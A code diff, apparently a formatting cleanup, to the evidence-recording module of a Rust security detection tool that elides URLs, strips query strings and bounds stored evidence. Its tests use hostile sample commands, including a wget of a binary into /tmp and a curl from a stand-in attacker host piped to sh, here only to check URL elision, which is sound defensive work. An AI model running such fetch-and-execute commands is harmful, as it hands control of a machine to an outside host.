@@ -244,12 +244,18 @@ fn allowed(kind: SourceKind) -> &'static [(EvidenceKey, Origin)] {
 impl EvidenceKey {
     /// Look a key up by its JSON name.
     pub fn parse(name: &str) -> Option<EvidenceKey> {
-        EvidenceKey::ALL.iter().copied().find(|k| k.as_str() == name)
+        EvidenceKey::ALL
+            .iter()
+            .copied()
+            .find(|k| k.as_str() == name)
     }
 
     /// The key's origin for `kind`, or `None` when the kind does not allow it.
     pub fn origin_for(self, kind: SourceKind) -> Option<Origin> {
-        allowed(kind).iter().find(|(k, _)| *k == self).map(|(_, o)| *o)
+        allowed(kind)
+            .iter()
+            .find(|(k, _)| *k == self)
+            .map(|(_, o)| *o)
     }
 
     /// The payload field a P or D key is read from.
@@ -297,7 +303,11 @@ impl Evidence {
 
     /// Add the matched tokens of a regex (URL-elided, bounded).
     pub fn insert_tokens(&mut self, kind: SourceKind, tokens: &[&str]) {
-        let list = tokens.iter().take(MAX_TOKENS).map(|t| Value::from(*t)).collect();
+        let list = tokens
+            .iter()
+            .take(MAX_TOKENS)
+            .map(|t| Value::from(*t))
+            .collect();
         self.insert(kind, K::MatchedTokens, Value::Array(list));
     }
 
@@ -316,12 +326,22 @@ impl Evidence {
         // Serialising to measure is the exact test but costs more than the whole rule
         // evaluation; the byte count of the strings plus a generous allowance for keys,
         // quotes, numbers and escapes is a safe bound that skips it for almost every tag.
-        let rough: usize = self.0.values_mut().flat_map(strings_mut).map(|s| s.len() * 2).sum::<usize>() + 64 * self.0.len();
+        let rough: usize = self
+            .0
+            .values_mut()
+            .flat_map(strings_mut)
+            .map(|s| s.len() * 2)
+            .sum::<usize>()
+            + 64 * self.0.len();
         if rough <= MAX_EVIDENCE_BYTES {
             return self;
         }
         while serde_json::to_vec(&self).map_or(0, |v| v.len()) > MAX_EVIDENCE_BYTES {
-            let Some(longest) = self.0.values_mut().flat_map(strings_mut).max_by_key(|s| s.len())
+            let Some(longest) = self
+                .0
+                .values_mut()
+                .flat_map(strings_mut)
+                .max_by_key(|s| s.len())
             else {
                 break;
             };
@@ -348,7 +368,7 @@ fn derive(key: EvidenceKey, raw: &Value) -> Option<Value> {
                 .as_array()?
                 .iter()
                 .filter_map(Value::as_str)
-                .map(|d| domain_of(d))
+                .map(domain_of)
                 .filter(|d| !d.is_empty())
                 .collect();
             domains.sort();
@@ -386,10 +406,16 @@ fn sanitise(key: EvidenceKey, value: Value) -> Value {
             items
                 .into_iter()
                 .take(MAX_TOKENS)
-                .filter_map(|v| v.as_str().map(|s| Value::from(cut_chars(&elide_urls(s), MAX_TOKEN_CHARS).into_owned())))
+                .filter_map(|v| {
+                    v.as_str().map(|s| {
+                        Value::from(cut_chars(&elide_urls(s), MAX_TOKEN_CHARS).into_owned())
+                    })
+                })
                 .collect(),
         ),
-        (K::RequestPath, Value::String(s)) => Value::from(cut_chars(strip_query(&s), MAX_PATH_CHARS).into_owned()),
+        (K::RequestPath, Value::String(s)) => {
+            Value::from(cut_chars(strip_query(&s), MAX_PATH_CHARS).into_owned())
+        }
         (K::Username, Value::String(s)) => string(s, MAX_USERNAME_CHARS),
         (_, Value::String(s)) => string(s, MAX_STRING_CHARS),
         (_, Value::Array(items)) => Value::Array(
@@ -444,15 +470,21 @@ mod tests {
 
     use super::*;
 
-    fn payload(v: Value) -> serde_json::Map<String, Value> {
+    fn payload(v: &Value) -> serde_json::Map<String, Value> {
         v.as_object().unwrap().clone()
     }
 
     #[test]
     fn urls_are_elided_to_scheme_and_host() {
         let cases = [
-            ("wget http://198.51.100.9/x86 -O /tmp/x", "wget http://198.51.100.9/… -O /tmp/x"),
-            ("curl https://user:pw@evil.example:8443/a?b=c|sh", "curl https://evil.example:8443/…|sh"),
+            (
+                "wget http://198.51.100.9/x86 -O /tmp/x",
+                "wget http://198.51.100.9/… -O /tmp/x",
+            ),
+            (
+                "curl https://user:pw@evil.example:8443/a?b=c|sh",
+                "curl https://evil.example:8443/…|sh",
+            ),
             ("ldap://198.51.100.7:1389", "ldap://198.51.100.7:1389"),
             ("echo no url here", "echo no url here"),
         ];
@@ -463,30 +495,38 @@ mod tests {
 
     #[test]
     fn only_allowed_keys_enter() {
-        let p = payload(json!({"command_text": "id", "password": "hunter2", "method": "GET"}));
+        let p = payload(&json!({"command_text": "id", "password": "hunter2", "method": "GET"}));
         let keys = [K::CommandText, K::Method];
         let ev = Evidence::from_payload(SourceKind::Command, &keys, &p);
-        assert_eq!(serde_json::to_value(&ev).unwrap(), json!({"command_text": "id"}));
+        assert_eq!(
+            serde_json::to_value(&ev).unwrap(),
+            json!({"command_text": "id"})
+        );
     }
 
     #[test]
     fn request_path_never_keeps_a_query() {
-        let p = payload(json!({"request_path": "/login?user=bob&pw=x"}));
+        let p = payload(&json!({"request_path": "/login?user=bob&pw=x"}));
         let ev = Evidence::from_payload(SourceKind::HttpRequest, &[K::RequestPath], &p);
         assert_eq!(ev.get(K::RequestPath), Some(&json!("/login")));
     }
 
     #[test]
     fn recipient_domains_become_a_sorted_set() {
-        let p = payload(json!({"rcpt_domains": ["B.example", "a.example", "b.example", "x@c.example"]}));
+        let p = payload(
+            &json!({"rcpt_domains": ["B.example", "a.example", "b.example", "x@c.example"]}),
+        );
         let ev = Evidence::from_payload(SourceKind::Email, &[K::RcptDomainSet], &p);
-        assert_eq!(ev.get(K::RcptDomainSet), Some(&json!(["a.example", "b.example", "c.example"])));
+        assert_eq!(
+            ev.get(K::RcptDomainSet),
+            Some(&json!(["a.example", "b.example", "c.example"]))
+        );
     }
 
     #[test]
     fn evidence_is_bounded_to_four_kib() {
         let long = "a".repeat(10_000);
-        let p = payload(json!({"command_text": long}));
+        let p = payload(&json!({"command_text": long}));
         let mut ev = Evidence::from_payload(SourceKind::Command, &[K::CommandText], &p);
         let token = "b".repeat(300);
         ev.insert_tokens(SourceKind::Command, &[token.as_str(); 8]);
